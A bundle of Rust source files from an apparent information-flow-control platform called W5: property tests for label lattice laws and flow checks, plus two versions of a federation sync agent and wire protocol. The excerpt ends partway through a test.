    #[test]
    fn interned_ops_agree_with_naive(a in arb_label(), b in arb_label(), c in arb_label()) {
        check_agreement(&a, &b, &c)?;
    }

    /// The same agreement must hold verbatim under an armed fault storm:
    /// label interning consumes no randomness and volunteers no fault
    /// sites, so chaos schedules cannot perturb it.
    #[test]
    fn interned_ops_agree_under_chaos(
        a in arb_label(),
        b in arb_label(),
        c in arb_label(),
        seed in 0u64..1024,
    ) {
        let injector = w5_chaos::Injector::new(w5_chaos::FaultPlan::storm(seed, 1.0));
        let _guard = w5_chaos::with_injector(injector.clone());
        check_agreement(&a, &b, &c)?;
        // The storm was armed at rate 1.0; if interning had consulted any
        // site, the report would show it.
        prop_assert_eq!(injector.report().total_injected(), 0);
    }

    /// Privileged flow checks agree with the naive rule once capabilities
    /// are lowered to tag vectors (the interned fast path may only ever
    /// *agree with* the full rule on the zero-privilege subset).
    #[test]
    fn fast_path_subset_implies_privileged_flow(a in arb_label(), b in arb_label()) {
        let (ia, ib) = (intern::intern(&a), intern::intern(&b));
        if intern::subset(ia, ib) {
            // The kernel's fast path: a cached subset hit must imply the
            // full privileged rule passes with any capability set.
            prop_assert!(w5_difc::can_flow_with(&a, &w5_difc::CapSet::empty(), &b, &w5_difc::CapSet::empty()).is_ok());
            prop_assert!(naive::can_flow_with(&tags(&a), &[], &tags(&b), &[]));
        }
    }
}
