//! Property-based tests for the DIFC core.
//!
//! These check the algebraic laws the security argument rests on: label set
//! algebra, monotonicity of `combine`, soundness of the privileged flow
//! checks relative to explicit label changes, and wire-format round trips.

use proptest::prelude::*;
use w5_difc::wire;
use w5_difc::{can_flow, can_flow_with, safe_change, CapSet, Capability, Label, LabelPair, Tag};

fn arb_label() -> impl Strategy<Value = Label> {
    proptest::collection::vec(1u64..64, 0..12)
        .prop_map(|ids| Label::from_iter(ids.into_iter().map(Tag::from_raw)))
}

fn arb_capset() -> impl Strategy<Value = CapSet> {
    proptest::collection::vec((1u64..64, any::<bool>()), 0..12).prop_map(|caps| {
        CapSet::from_caps(caps.into_iter().map(|(id, plus)| {
            let t = Tag::from_raw(id);
            if plus {
                Capability::plus(t)
            } else {
                Capability::minus(t)
            }
        }))
    })
}

proptest! {
    #[test]
    fn union_is_commutative_and_idempotent(a in arb_label(), b in arb_label()) {
        prop_assert_eq!(a.union(&b), b.union(&a));
        prop_assert_eq!(a.union(&a), a.clone());
    }

    #[test]
    fn intersection_distributes_over_union(a in arb_label(), b in arb_label(), c in arb_label()) {
        prop_assert_eq!(
            a.intersection(&b.union(&c)),
            a.intersection(&b).union(&a.intersection(&c))
        );
    }

    #[test]
    fn difference_and_intersection_partition(a in arb_label(), b in arb_label()) {
        // a = (a − b) ∪ (a ∩ b), and the parts are disjoint.
        let diff = a.difference(&b);
        let inter = a.intersection(&b);
        prop_assert_eq!(diff.union(&inter), a);
        prop_assert!(diff.is_disjoint(&inter));
    }

    #[test]
    fn subset_iff_union_absorbs(a in arb_label(), b in arb_label()) {
        prop_assert_eq!(a.is_subset(&b), a.union(&b) == b);
    }

    #[test]
    fn flow_is_a_preorder(a in arb_label(), b in arb_label(), c in arb_label()) {
        prop_assert!(can_flow(&a, &a));
        if can_flow(&a, &b) && can_flow(&b, &c) {
            prop_assert!(can_flow(&a, &c));
        }
    }

    #[test]
    fn combine_only_increases_secrecy(a in arb_label(), b in arb_label(), ia in arb_label(), ib in arb_label()) {
        let pa = LabelPair::new(a.clone(), ia.clone());
        let pb = LabelPair::new(b, ib);
        let c = pa.combine(&pb);
        // Secrecy is monotonically non-decreasing, integrity non-increasing.
        prop_assert!(a.is_subset(&c.secrecy));
        prop_assert!(c.integrity.is_subset(&ia));
    }

    #[test]
    fn safe_change_sound_vs_flow(from in arb_label(), to in arb_label(), caps in arb_capset()) {
        // If the label change from→to is safe under caps, then a privileged
        // flow from a source labeled `from` to a sink labeled `to` must also
        // be allowed when the sender holds `caps` (the change subsumes it).
        if safe_change(&from, &to, &caps).is_ok() {
            prop_assert!(can_flow_with(&from, &caps, &to, &CapSet::empty()).is_ok());
        }
    }

    #[test]
    fn unprivileged_flow_equals_raw(a in arb_label(), b in arb_label()) {
        let empty = CapSet::empty();
        prop_assert_eq!(can_flow_with(&a, &empty, &b, &empty).is_ok(), can_flow(&a, &b));
    }

    #[test]
    fn privileged_flow_monotone_in_caps(a in arb_label(), b in arb_label(), caps in arb_capset(), extra in arb_capset()) {
        // Adding capabilities can never turn an allowed flow into a denial.
        if can_flow_with(&a, &caps, &b, &CapSet::empty()).is_ok() {
            prop_assert!(can_flow_with(&a, &caps.union(&extra), &b, &CapSet::empty()).is_ok());
        }
    }

    #[test]
    fn wire_roundtrip(s in arb_label(), i in arb_label()) {
        let pair = LabelPair::new(s, i);
        let bytes = wire::pair_to_bytes(&pair);
        prop_assert_eq!(wire::pair_from_bytes(&bytes).unwrap(), pair);
    }

    #[test]
    fn wire_decode_never_panics(bytes in proptest::collection::vec(any::<u8>(), 0..64)) {
        // Arbitrary bytes must decode or error, never panic or over-allocate.
        let _ = wire::pair_from_bytes(&bytes);
    }

    #[test]
    fn serde_json_roundtrip(s in arb_label(), i in arb_label()) {
        let pair = LabelPair::new(s, i);
        let json = serde_json::to_string(&pair).unwrap();
        let back: LabelPair = serde_json::from_str(&json).unwrap();
        prop_assert_eq!(back, pair);
    }
}

mod lattice_laws {
    //! Labels under (∪, ∩) form a bounded distributive lattice, and
    //! `can_flow` is exactly its partial order. Every noninterference
    //! argument in the stack leans on these laws; here they are checked
    //! as laws, not as examples.
    use super::*;

    proptest! {
        #[test]
        fn join_and_meet_are_associative(a in arb_label(), b in arb_label(), c in arb_label()) {
            prop_assert_eq!(a.union(&b).union(&c), a.union(&b.union(&c)));
            prop_assert_eq!(
                a.intersection(&b).intersection(&c),
                a.intersection(&b.intersection(&c))
            );
        }

        #[test]
        fn meet_is_commutative_and_idempotent(a in arb_label(), b in arb_label()) {
            prop_assert_eq!(a.intersection(&b), b.intersection(&a));
            prop_assert_eq!(a.intersection(&a), a.clone());
        }

        #[test]
        fn absorption(a in arb_label(), b in arb_label()) {
            // a ∪ (a ∩ b) = a = a ∩ (a ∪ b): join and meet are duals over
            // one underlying order, not two unrelated operations.
            prop_assert_eq!(a.union(&a.intersection(&b)), a.clone());
            prop_assert_eq!(a.intersection(&a.union(&b)), a.clone());
        }

        #[test]
        fn bounds(a in arb_label()) {
            let bottom = Label::empty();
            prop_assert_eq!(a.union(&bottom), a.clone());
            prop_assert_eq!(a.intersection(&bottom), bottom);
        }

        #[test]
        fn order_consistency(a in arb_label(), b in arb_label()) {
            // Four statements of "a is below b" that must agree exactly:
            // subset, join-absorption, meet-absorption, and the secrecy
            // flow rule the kernel actually enforces.
            let le = a.is_subset(&b);
            prop_assert_eq!(le, a.union(&b) == b);
            prop_assert_eq!(le, a.intersection(&b) == a);
            prop_assert_eq!(le, can_flow(&a, &b));
        }

        #[test]
        fn flow_is_antisymmetric(a in arb_label(), b in arb_label()) {
            if can_flow(&a, &b) && can_flow(&b, &a) {
                prop_assert_eq!(a, b);
            }
        }

        #[test]
        fn join_is_least_upper_bound(a in arb_label(), b in arb_label(), c in arb_label()) {
            let j = a.union(&b);
            prop_assert!(can_flow(&a, &j));
            prop_assert!(can_flow(&b, &j));
            // Least: any other upper bound sits above the join.
            if can_flow(&a, &c) && can_flow(&b, &c) {
                prop_assert!(can_flow(&j, &c));
            }
        }

        #[test]
        fn meet_is_greatest_lower_bound(a in arb_label(), b in arb_label(), c in arb_label()) {
            let m = a.intersection(&b);
            prop_assert!(can_flow(&m, &a));
            prop_assert!(can_flow(&m, &b));
            if can_flow(&c, &a) && can_flow(&c, &b) {
                prop_assert!(can_flow(&c, &m));
            }
        }
    }
}

mod endpoint_laws {
    use super::*;
    use w5_difc::{Endpoint, TagKind, TagRegistry};

    proptest! {
        /// An endpoint that mirrors the process labels is always valid and
        /// passes exactly the data a raw flow check would.
        #[test]
        fn mirror_endpoint_equals_raw_flow(s in super::arb_label(), d in super::arb_label()) {
            let proc_labels = LabelPair::new(s.clone(), Label::empty());
            let ep = Endpoint::mirror(&proc_labels);
            let data = LabelPair::new(d.clone(), Label::empty());
            prop_assert_eq!(ep.may_send(&data).is_ok(), can_flow(&d, &s));
        }

        /// Endpoint validity is monotone in capabilities: adding caps never
        /// invalidates an endpoint.
        #[test]
        fn endpoint_validity_monotone(
            s in super::arb_label(),
            target in super::arb_label(),
            caps in super::arb_capset(),
            extra in super::arb_capset(),
        ) {
            let proc_labels = LabelPair::new(s, Label::empty());
            let target_labels = LabelPair::new(target, Label::empty());
            if Endpoint::new(&proc_labels, &caps, target_labels.clone()).is_ok() {
                prop_assert!(Endpoint::new(&proc_labels, &caps.union(&extra), target_labels).is_ok());
            }
        }

        /// The registry's capability distribution invariants hold for every
        /// kind: exactly one half is public except ReadProtect (none), and
        /// the creator always holds the complement.
        #[test]
        fn registry_distribution_invariant(kind_ix in 0usize..3) {
            let kind = [TagKind::ExportProtect, TagKind::WriteProtect, TagKind::ReadProtect][kind_ix];
            let reg = TagRegistry::new();
            let (tag, creator) = reg.create_tag(kind, "t");
            let global = reg.global_bag();
            // The union of global and creator caps always covers both halves.
            let eff = reg.effective(&creator);
            prop_assert!(eff.owns(tag));
            // And the global bag never holds both halves.
            prop_assert!(!(global.has_plus(tag) && global.has_minus(tag)));
        }
    }
}
