//! Carrier crate for the repository-root `examples/` binaries.
//!
//! Run them with, e.g.:
//!
//! ```sh
//! cargo run -p w5-examples --example quickstart
//! cargo run -p w5-examples --example social_network
//! cargo run -p w5-examples --example photo_modules
//! cargo run -p w5-examples --example federation_mirror
//! cargo run -p w5-examples --example attack_demo
//! ```

#![forbid(unsafe_code)]
