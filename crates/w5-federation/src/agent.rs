//! The import side: pull a linked user's data from a peer provider and
//! mirror it into the local store under the local account's labels.

use crate::protocol::{ExportBatch, FEDERATION_TOKEN_HEADER};
use bytes::Bytes;
use std::fmt;
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;
use w5_net::HttpClient;
use w5_platform::Platform;
use w5_store::Subject;

/// A cross-provider account link: "can users 'link' accounts on different
/// W5 platforms, so that their data is mirrored across provider
/// boundaries?" (§3.3)
#[derive(Clone, Debug)]
pub struct AccountLink {
    /// Username on the remote provider.
    pub remote_user: String,
    /// Username on the local provider.
    pub local_user: String,
}

/// What one sync pass did.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct SyncReport {
    /// Files examined in the batch.
    pub examined: usize,
    /// Files created locally.
    pub created: usize,
    /// Files updated locally.
    pub updated: usize,
    /// Files skipped because content was already identical.
    pub unchanged: usize,
    /// Bytes received on the wire (payload, after decode).
    pub bytes: usize,
    /// Records whose remote label pair arrived via the batch's interned
    /// label dictionary (0 for batches from legacy peers).
    pub labeled: usize,
    /// Transient failures ridden out by retries before this pass succeeded.
    pub retries: usize,
}

/// Typed sync failures. Transient variants ([`SyncError::is_transient`])
/// mean the pull had no effect and may simply run again; the rest are
/// permanent until an operator or the peer changes something.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum SyncError {
    /// The peer could not be reached (connect/IO failure).
    Unreachable(String),
    /// The link to the peer is partitioned (injected by `w5-chaos`).
    Partitioned,
    /// The peer answered with a non-success status.
    Refused {
        /// HTTP status from the peer.
        status: u16,
        /// Response body (already label-scrubbed by the peer's perimeter).
        body: String,
    },
    /// The batch failed to parse or decode.
    BadBatch(String),
    /// The local account named by the link does not exist.
    NoAccount(String),
    /// A local store operation failed.
    Store {
        /// The path being mirrored.
        path: String,
        /// The underlying filesystem error.
        source: w5_store::FsError,
    },
}

impl SyncError {
    /// True when the failure is worth retrying: nothing was applied and
    /// the cause (network weather, a torn local write) may clear on its
    /// own. Peer refusals and malformed batches are not transient.
    pub fn is_transient(&self) -> bool {
        match self {
            SyncError::Unreachable(_) | SyncError::Partitioned => true,
            SyncError::Store { source, .. } => *source == w5_store::FsError::Aborted,
            _ => false,
        }
    }
}

impl fmt::Display for SyncError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            SyncError::Unreachable(e) => write!(f, "peer unreachable: {e}"),
            SyncError::Partitioned => write!(f, "peer partitioned"),
            SyncError::Refused { status, body } => write!(f, "peer refused: {status} {body}"),
            SyncError::BadBatch(e) => write!(f, "bad batch: {e}"),
            SyncError::NoAccount(u) => write!(f, "no local account {u}"),
            SyncError::Store { path, source } => write!(f, "store {path}: {source}"),
        }
    }
}

impl std::error::Error for SyncError {}

/// The pulling agent for one local platform.
pub struct SyncAgent {
    platform: Arc<Platform>,
    client: HttpClient,
    peer_token: String,
}

impl SyncAgent {
    /// An agent for `platform`, authenticating with `peer_token`. The
    /// underlying HTTP client already retries transient network failures
    /// with a short backoff; [`SyncAgent::pull_with_retry`] adds a second
    /// retry loop around whole sync passes.
    pub fn new(platform: Arc<Platform>, peer_token: &str) -> SyncAgent {
        SyncAgent {
            platform,
            client: HttpClient::new().with_retries(2, Duration::from_millis(5)),
            peer_token: peer_token.to_string(),
        }
    }

    /// Pull `link.remote_user`'s data from the peer at `peer_addr` and
    /// mirror it into the local account `link.local_user`.
    pub fn pull(&self, peer_addr: SocketAddr, link: &AccountLink) -> Result<SyncReport, SyncError> {
        // A partition makes the peer unreachable for this whole pass.
        if w5_chaos::inject(w5_chaos::Site::FedPartition).is_some() {
            return Err(SyncError::Partitioned);
        }
        // Root (or child) span for the pass; its context rides the wire so
        // the peer's HTTP root span stitches under this tree.
        let _span = w5_obs::span(
            &format!("federation.pull {}", link.remote_user),
            w5_obs::Layer::Net,
            &w5_obs::ObsLabel::empty(),
        );
        let trace_header = w5_obs::current_context().map(|ctx| ctx.encode());
        let mut headers: Vec<(&str, &str)> = vec![(FEDERATION_TOKEN_HEADER, &self.peer_token)];
        if let Some(ctx) = trace_header.as_deref() {
            headers.push((w5_obs::TRACE_HEADER, ctx));
        }
        let path = format!("/federation/export?user={}", link.remote_user);
        let resp = self
            .client
            .get_with_headers(peer_addr, &path, &headers)
            .map_err(|e| SyncError::Unreachable(e.to_string()))?;
        if !resp.status.is_success() {
            return Err(SyncError::Refused { status: resp.status.0, body: resp.body_string() });
        }
        let mut batch: ExportBatch =
            serde_json::from_slice(&resp.body).map_err(|e| SyncError::BadBatch(e.to_string()))?;
        // Decode the batch's interned label dictionary up front: a batch
        // with a malformed dictionary or a dangling reference is rejected
        // whole, before any record is applied. Remote tag ids are
        // meaningless in the local registry, so the decoded pairs serve as
        // provenance (and the `labeled` count below); mirrored files are
        // stamped with the *local* account's labels regardless.
        let remote_labels = batch.decode_labels().map_err(SyncError::BadBatch)?;
        for record in &batch.records {
            if let Some(ix) = record.label_ref {
                if ix as usize >= remote_labels.len() {
                    return Err(SyncError::BadBatch(format!(
                        "record {} references label {ix} of {}",
                        record.path,
                        remote_labels.len()
                    )));
                }
            }
        }

        // Delayed/reordered delivery: records overtake each other on the
        // wire. Mirroring must converge to the same state regardless of
        // arrival order (each record is applied independently).
        if w5_chaos::inject(w5_chaos::Site::FedReorder).is_some() {
            batch.records.reverse();
        }

        let local = self
            .platform
            .accounts
            .get_by_name(&link.local_user)
            .ok_or_else(|| SyncError::NoAccount(link.local_user.clone()))?;
        // The import declassifier writes with the *local* user's authority:
        // mirrored data gets the local tags, exactly as if the user had
        // uploaded it here.
        let subject = Subject::new(
            w5_difc::LabelPair::public(),
            self.platform.registry.effective(&local.owner_caps),
        );
        let labels = local.data_labels();

        let mut report = SyncReport::default();
        for record in &batch.records {
            report.examined += 1;
            if record.label_ref.is_some() {
                report.labeled += 1;
            }
            let data = record.data().map_err(SyncError::BadBatch)?;
            report.bytes += data.len();
            match self.platform.fs.read(&subject, &record.path) {
                Ok((existing, _)) if existing == data => {
                    report.unchanged += 1;
                }
                Ok(_) => {
                    self.apply(&record.path, &mut report, |path| {
                        self.platform.fs.write(&subject, path, Bytes::from(data.clone()))
                    })?;
                    report.updated += 1;
                }
                Err(w5_store::FsError::NotFound) => {
                    self.apply(&record.path, &mut report, |path| {
                        self.platform.fs.create(
                            &subject,
                            path,
                            labels.clone(),
                            Bytes::from(data.clone()),
                        )
                    })?;
                    report.created += 1;
                }
                Err(e) => return Err(SyncError::Store { path: record.path.clone(), source: e }),
            }
        }
        Ok(report)
    }

    /// Apply one local mirror write, retrying aborted (torn) commits a
    /// bounded number of times. Store denials and quota errors surface
    /// immediately — retrying cannot fix policy.
    fn apply<F>(&self, path: &str, report: &mut SyncReport, mut op: F) -> Result<(), SyncError>
    where
        F: FnMut(&str) -> Result<(), w5_store::FsError>,
    {
        let mut last = w5_store::FsError::Aborted;
        for _ in 0..8 {
            match op(path) {
                Ok(()) => return Ok(()),
                Err(w5_store::FsError::Aborted) => {
                    report.retries += 1;
                    last = w5_store::FsError::Aborted;
                }
                Err(e) => return Err(SyncError::Store { path: path.to_string(), source: e }),
            }
        }
        Err(SyncError::Store { path: path.to_string(), source: last })
    }

    /// Run whole sync passes until one succeeds, retrying transient
    /// failures (partitions, unreachable peers, torn local writes) up to
    /// `attempts` times with `backoff × 2^attempt` between passes.
    pub fn pull_with_retry(
        &self,
        peer_addr: SocketAddr,
        link: &AccountLink,
        attempts: u32,
        backoff: Duration,
    ) -> Result<SyncReport, SyncError> {
        let mut attempt: u32 = 0;
        loop {
            match self.pull(peer_addr, link) {
                Ok(mut report) => {
                    report.retries += attempt as usize;
                    return Ok(report);
                }
                Err(e) if e.is_transient() && attempt < attempts => {
                    let delay = backoff.saturating_mul(1u32 << attempt.min(8));
                    if !delay.is_zero() {
                        std::thread::sleep(delay);
                    }
                    attempt += 1;
                }
                Err(e) => return Err(e),
            }
        }
    }
}
