//! The import side: pull a linked user's data from a peer provider and
//! mirror it into the local store under the local account's labels.

use crate::protocol::{ExportBatch, FEDERATION_TOKEN_HEADER};
use bytes::Bytes;
use std::net::SocketAddr;
use std::sync::Arc;
use w5_net::HttpClient;
use w5_platform::Platform;
use w5_store::Subject;

/// A cross-provider account link: "can users 'link' accounts on different
/// W5 platforms, so that their data is mirrored across provider
/// boundaries?" (§3.3)
#[derive(Clone, Debug)]
pub struct AccountLink {
    /// Username on the remote provider.
    pub remote_user: String,
    /// Username on the local provider.
    pub local_user: String,
}

/// What one sync pass did.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct SyncReport {
    /// Files examined in the batch.
    pub examined: usize,
    /// Files created locally.
    pub created: usize,
    /// Files updated locally.
    pub updated: usize,
    /// Files skipped because content was already identical.
    pub unchanged: usize,
    /// Bytes received on the wire (payload, after decode).
    pub bytes: usize,
}

/// The pulling agent for one local platform.
pub struct SyncAgent {
    platform: Arc<Platform>,
    client: HttpClient,
    peer_token: String,
}

impl SyncAgent {
    /// An agent for `platform`, authenticating with `peer_token`.
    pub fn new(platform: Arc<Platform>, peer_token: &str) -> SyncAgent {
        SyncAgent { platform, client: HttpClient::new(), peer_token: peer_token.to_string() }
    }

    /// Pull `link.remote_user`'s data from the peer at `peer_addr` and
    /// mirror it into the local account `link.local_user`.
    pub fn pull(&self, peer_addr: SocketAddr, link: &AccountLink) -> Result<SyncReport, String> {
        let path = format!("/federation/export?user={}", link.remote_user);
        let resp = self
            .client
            .get_with_headers(peer_addr, &path, &[(FEDERATION_TOKEN_HEADER, &self.peer_token)])
            .map_err(|e| format!("peer unreachable: {e}"))?;
        if !resp.status.is_success() {
            return Err(format!("peer refused: {} {}", resp.status.0, resp.body_string()));
        }
        let batch: ExportBatch =
            serde_json::from_slice(&resp.body).map_err(|e| format!("bad batch: {e}"))?;

        let local = self
            .platform
            .accounts
            .get_by_name(&link.local_user)
            .ok_or_else(|| format!("no local account {}", link.local_user))?;
        // The import declassifier writes with the *local* user's authority:
        // mirrored data gets the local tags, exactly as if the user had
        // uploaded it here.
        let subject = Subject::new(
            w5_difc::LabelPair::public(),
            self.platform.registry.effective(&local.owner_caps),
        );
        let labels = local.data_labels();

        let mut report = SyncReport::default();
        for record in &batch.records {
            report.examined += 1;
            let data = record.data().map_err(|e| format!("bad record: {e}"))?;
            report.bytes += data.len();
            match self.platform.fs.read(&subject, &record.path) {
                Ok((existing, _)) if existing == data => {
                    report.unchanged += 1;
                }
                Ok(_) => {
                    self.platform
                        .fs
                        .write(&subject, &record.path, Bytes::from(data))
                        .map_err(|e| format!("write {}: {e}", record.path))?;
                    report.updated += 1;
                }
                Err(w5_store::FsError::NotFound) => {
                    self.platform
                        .fs
                        .create(&subject, &record.path, labels.clone(), Bytes::from(data))
                        .map_err(|e| format!("create {}: {e}", record.path))?;
                    report.created += 1;
                }
                Err(e) => return Err(format!("read {}: {e}", record.path)),
            }
        }
        Ok(report)
    }
}
