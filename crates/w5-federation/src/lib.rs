//! # w5-federation — multiple W5 providers (paper §3.3)
//!
//! "One approach is to create import/export declassifiers that synchronize
//! user data between two W5 providers. If an end-user deemed such
//! applications trustworthy, it would give its privileges to data transfer
//! applications on both platforms A and B. Then, whenever the user updated
//! his data on one platform, the changes would propagate to the other."
//!
//! The pieces:
//!
//! * [`protocol`] — the wire records (JSON over HTTP).
//! * [`service::FederationService`] — the *export* side: an HTTP endpoint
//!   on each provider that serves a user's own-labeled files to an
//!   authenticated peer, **only if the user granted the
//!   `federation-export` declassifier**. Data is identified purely by its
//!   labels (`S = {e_u}`), true to the paper's "agnostic to the structure
//!   of the data".
//! * [`agent::SyncAgent`] — the *import* side: pulls from the peer and
//!   writes each file into the local store under the local account's
//!   labels, skipping content that is already identical (so bidirectional
//!   mirroring converges instead of ping-ponging).
//!
//! Providers authenticate to each other with a shared peering secret —
//! the "explicit peering arrangements" the paper sketches.

#![forbid(unsafe_code)]

pub mod agent;
pub mod protocol;
pub mod service;

pub use agent::{AccountLink, SyncAgent, SyncError, SyncReport};
pub use protocol::{ExportBatch, ExportRecord, FEDERATION_TOKEN_HEADER};
pub use service::FederationService;

/// The declassifier name users grant to opt into mirroring.
pub const FEDERATION_DECLASSIFIER: &str = "federation-export";
