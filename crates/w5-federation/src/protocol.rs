//! Wire records for provider-to-provider sync.

use serde::{Deserialize, Serialize};

/// Header carrying the peering secret.
pub const FEDERATION_TOKEN_HEADER: &str = "x-w5-peer-token";

/// One exported file.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct ExportRecord {
    /// Path on the exporting provider.
    pub path: String,
    /// Version on the exporting provider (monotonic per file).
    pub version: u64,
    /// File bytes, hex-encoded (JSON-safe without a base64 dependency).
    pub data_hex: String,
}

impl ExportRecord {
    /// Encode raw bytes.
    pub fn new(path: &str, version: u64, data: &[u8]) -> ExportRecord {
        ExportRecord {
            path: path.to_string(),
            version,
            data_hex: hex_encode(data),
        }
    }

    /// Decode the payload.
    pub fn data(&self) -> Result<Vec<u8>, String> {
        hex_decode(&self.data_hex)
    }
}

/// A batch of exports for one user.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct ExportBatch {
    /// The username on the exporting provider.
    pub user: String,
    /// The exporting provider's name.
    pub provider: String,
    /// The records.
    pub records: Vec<ExportRecord>,
}

/// Lowercase hex encoding.
pub fn hex_encode(data: &[u8]) -> String {
    let mut s = String::with_capacity(data.len() * 2);
    const DIGITS: &[u8; 16] = b"0123456789abcdef";
    for b in data {
        s.push(DIGITS[(b >> 4) as usize] as char);
        s.push(DIGITS[(b & 0xf) as usize] as char);
    }
    s
}

/// Hex decoding.
pub fn hex_decode(s: &str) -> Result<Vec<u8>, String> {
    if !s.len().is_multiple_of(2) {
        return Err("odd-length hex".to_string());
    }
    let bytes = s.as_bytes();
    let mut out = Vec::with_capacity(s.len() / 2);
    for pair in bytes.chunks(2) {
        let hi = (pair[0] as char).to_digit(16).ok_or("bad hex digit")?;
        let lo = (pair[1] as char).to_digit(16).ok_or("bad hex digit")?;
        out.push((hi << 4 | lo) as u8);
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hex_roundtrip() {
        for data in [&b""[..], b"a", b"hello world", &[0u8, 255, 16]] {
            assert_eq!(hex_decode(&hex_encode(data)).unwrap(), data);
        }
    }

    #[test]
    fn hex_decode_rejects_garbage() {
        assert!(hex_decode("abc").is_err());
        assert!(hex_decode("zz").is_err());
    }

    #[test]
    fn record_roundtrip_via_json() {
        let r = ExportRecord::new("/photos/bob/cat", 3, b"PIXELS");
        let json = serde_json::to_string(&r).unwrap();
        let back: ExportRecord = serde_json::from_str(&json).unwrap();
        assert_eq!(back, r);
        assert_eq!(back.data().unwrap(), b"PIXELS");
    }

    #[test]
    fn batch_roundtrip() {
        let b = ExportBatch {
            user: "bob".into(),
            provider: "A".into(),
            records: vec![ExportRecord::new("/x", 1, b"1")],
        };
        let json = serde_json::to_string(&b).unwrap();
        assert_eq!(serde_json::from_str::<ExportBatch>(&json).unwrap(), b);
    }
}
