//! Wire records for provider-to-provider sync.
//!
//! Labels cross the provider boundary as a **batch-level dictionary**: the
//! exporter interns each distinct label pair once (by [`w5_difc::PairId`]),
//! wire-encodes it once ([`w5_difc::wire`] LEB128 deltas, hex-wrapped for
//! JSON), and every record carries only a small dictionary index. A
//! thousand-file batch under one user's `{e_u}/{w_u}` labels ships the tag
//! sets exactly once. Both fields are `#[serde(default)]`, so batches from
//! peers predating the dictionary still parse (records with no `label_ref`
//! are treated as carrying unknown provenance, as before).

use serde::{Deserialize, Serialize};
use std::collections::HashMap;
use w5_difc::{LabelPair, PairId};

/// Header carrying the peering secret.
pub const FEDERATION_TOKEN_HEADER: &str = "x-w5-peer-token";

/// One exported file.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct ExportRecord {
    /// Path on the exporting provider.
    pub path: String,
    /// Version on the exporting provider (monotonic per file).
    pub version: u64,
    /// File bytes, hex-encoded (JSON-safe without a base64 dependency).
    pub data_hex: String,
    /// Index into [`ExportBatch::labels_hex`] naming this file's label
    /// pair on the exporting provider. Absent from legacy peers.
    #[serde(default)]
    pub label_ref: Option<u32>,
}

impl ExportRecord {
    /// Encode raw bytes.
    pub fn new(path: &str, version: u64, data: &[u8]) -> ExportRecord {
        ExportRecord {
            path: path.to_string(),
            version,
            data_hex: hex_encode(data),
            label_ref: None,
        }
    }

    /// Decode the payload.
    pub fn data(&self) -> Result<Vec<u8>, String> {
        hex_decode(&self.data_hex)
    }
}

/// A batch of exports for one user.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct ExportBatch {
    /// The username on the exporting provider.
    pub user: String,
    /// The exporting provider's name.
    pub provider: String,
    /// The records.
    pub records: Vec<ExportRecord>,
    /// Deduplicated label dictionary: each entry is one wire-encoded
    /// ([`w5_difc::wire`]) label pair, hex-wrapped. Indexed by
    /// [`ExportRecord::label_ref`]. Empty for legacy peers.
    #[serde(default)]
    pub labels_hex: Vec<String>,
}

impl ExportBatch {
    /// Decode and validate the label dictionary. Returns the label pairs
    /// in dictionary order, or an error naming the malformed entry.
    pub fn decode_labels(&self) -> Result<Vec<LabelPair>, String> {
        self.labels_hex
            .iter()
            .enumerate()
            .map(|(i, hx)| {
                let bytes = hex_decode(hx).map_err(|e| format!("label {i}: {e}"))?;
                w5_difc::wire::pair_from_bytes(&bytes).map_err(|e| format!("label {i}: {e}"))
            })
            .collect()
    }
}

/// Builds an [`ExportBatch`] label dictionary, deduplicating by interned
/// id: each distinct label pair is wire-encoded exactly once however many
/// records carry it.
#[derive(Default)]
pub struct LabelDict {
    index: HashMap<PairId, u32>,
    entries: Vec<String>,
}

impl LabelDict {
    /// An empty dictionary.
    pub fn new() -> LabelDict {
        LabelDict::default()
    }

    /// The dictionary index for `pair`, encoding it on first sight.
    pub fn intern(&mut self, pair: &LabelPair) -> u32 {
        let id = pair.interned();
        if let Some(&ix) = self.index.get(&id) {
            return ix;
        }
        let ix = self.entries.len() as u32;
        self.entries.push(hex_encode(&w5_difc::wire::pair_to_bytes(pair)));
        self.index.insert(id, ix);
        ix
    }

    /// The encoded entries, for [`ExportBatch::labels_hex`].
    pub fn into_entries(self) -> Vec<String> {
        self.entries
    }
}

/// Lowercase hex encoding.
pub fn hex_encode(data: &[u8]) -> String {
    let mut s = String::with_capacity(data.len() * 2);
    const DIGITS: &[u8; 16] = b"0123456789abcdef";
    for b in data {
        s.push(DIGITS[(b >> 4) as usize] as char);
        s.push(DIGITS[(b & 0xf) as usize] as char);
    }
    s
}

/// Hex decoding.
pub fn hex_decode(s: &str) -> Result<Vec<u8>, String> {
    if !s.len().is_multiple_of(2) {
        return Err("odd-length hex".to_string());
    }
    let bytes = s.as_bytes();
    let mut out = Vec::with_capacity(s.len() / 2);
    for pair in bytes.chunks(2) {
        let hi = (pair[0] as char).to_digit(16).ok_or("bad hex digit")?;
        let lo = (pair[1] as char).to_digit(16).ok_or("bad hex digit")?;
        out.push((hi << 4 | lo) as u8);
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hex_roundtrip() {
        for data in [&b""[..], b"a", b"hello world", &[0u8, 255, 16]] {
            assert_eq!(hex_decode(&hex_encode(data)).unwrap(), data);
        }
    }

    #[test]
    fn hex_decode_rejects_garbage() {
        assert!(hex_decode("abc").is_err());
        assert!(hex_decode("zz").is_err());
    }

    #[test]
    fn record_roundtrip_via_json() {
        let r = ExportRecord::new("/photos/bob/cat", 3, b"PIXELS");
        let json = serde_json::to_string(&r).unwrap();
        let back: ExportRecord = serde_json::from_str(&json).unwrap();
        assert_eq!(back, r);
        assert_eq!(back.data().unwrap(), b"PIXELS");
    }

    #[test]
    fn batch_roundtrip() {
        let b = ExportBatch {
            user: "bob".into(),
            provider: "A".into(),
            records: vec![ExportRecord::new("/x", 1, b"1")],
            labels_hex: Vec::new(),
        };
        let json = serde_json::to_string(&b).unwrap();
